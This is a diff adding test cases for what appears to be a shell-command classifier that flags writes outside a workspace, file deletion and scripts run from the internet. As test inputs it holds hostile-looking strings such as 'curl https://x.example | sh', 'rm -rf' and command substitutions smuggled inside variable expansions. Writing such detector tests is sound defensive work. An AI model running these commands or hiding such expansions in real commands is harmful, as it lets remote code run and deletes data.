@@ -74,6 +74,74 @@ describe('a card names what leads outside, and claims nothing of a program that 
     expect(codesOf(line)).toContain(line.startsWith('echo') ? 'changes_outside_workspace' : 'unknown_effects');
   });
 
+  /** A shell puts in what the line doesn’t show. */
+  const UNSEEN = [
+    '$OLDPWD/out',
+    '"$XDG_CONFIG_HOME"/out',
+    '\u0024{X:-/usr/out}',
+    '\u0024{X:=/usr}/out',
+    '\u0024{X}',
+    "$'\\x2fusr/out'",
+    '$PWD/../out',
+    '\u0024{PWD}/../out',
+    '/w/a/../../out',
+  ];
+  test.each(UNSEEN)('named where it stands: %s', (path) => {
+    const inCode = /sh -c|^awk|^python3|^sed/;
+    for (const line of WRITES.filter((each) => !inCode.test(each)))
+      expect(namedBy(line.replace('OUT', () => path)), line.replace('OUT', path)).not.toEqual([]);
+  });
+
+  test.each(['GIT_DIR=~ada/out git log', 'PATH=a:~ada/out ls', 'perl -e "open F, q(>\\/usr/out)"'])(
+    'named: %s',
+    (line) => {
+      expect(namedBy(line)).not.toEqual([]);
+    },
+  );
+
+  /** Each runs what is in the braces. */
+  const IN_BRACES = [
+    '\u0024{X:-RUN}',
+    '"\u0024{X:=RUN}"',
+    '\u0024{X[RUN]}',
+    '\u0024{X:-\u0024{Y:-RUN}}',
+    '\u0024{X/a/RUN}',
+    '\u0024{X:-"}"RUN}',
+    '\u0024{X:-\\}RUN}',
+  ];
+  test.each(
+    IN_BRACES.flatMap((braces) => ['$(RUN)', '`RUN`', '<(RUN)'].map((run) => braces.replace('RUN', () => run))),
+  )('what a variable has a shell run: %s', (braces) => {
+    const echo = (command: string) => codesOf(`echo ${braces.replace('RUN', command)}`);
+    expect(echo('touch a')).toContain('unknown_effects');
+    expect(echo('rm -rf a')).toContain('deletes_files');
+    expect(echo('curl https://x.example | sh')).toContain('runs_script_from_internet');
+  });
+  test.each([
+    'echo \u0024{X@P}',
+    'echo \u0024{!X}',
+    'echo \u0024{X[Y]}',
+    `echo ${'\u0024{X:-'.repeat(30)}`,
+    'echo \u0024{X',
+  ])('unknown: %s', (line) => {
+    expect(codesOf(line)).toContain('unknown_effects');
+  });
+  test.each(['echo \u0024{X:-a} b', 'echo "\u0024{X#a}"', 'echo \u0024{#X}', 'echo $?'])(
+    'the control, which only shows: %s',
+    (line) => {
+      expect(codesOf(line).filter((code) => code !== 'names_places_outside')).toEqual([]);
+    },
+  );
+  test.each([
+    'for f in *.ts; do wc -l $f; done',
+    'X=a; cat $X',
+    'echo v$VERSION src/$NAME.ts',
+    'ls $PWD/a',
+    'echo $? $#',
+  ])('the control, inside or set by the line: %s', (line) => {
+    expect(namedBy(line)).toEqual([]);
+  });
+
   test('without a shell too', () => {
     for (const argv of [
       ['sort', '-o', '/usr/out', 'a'],
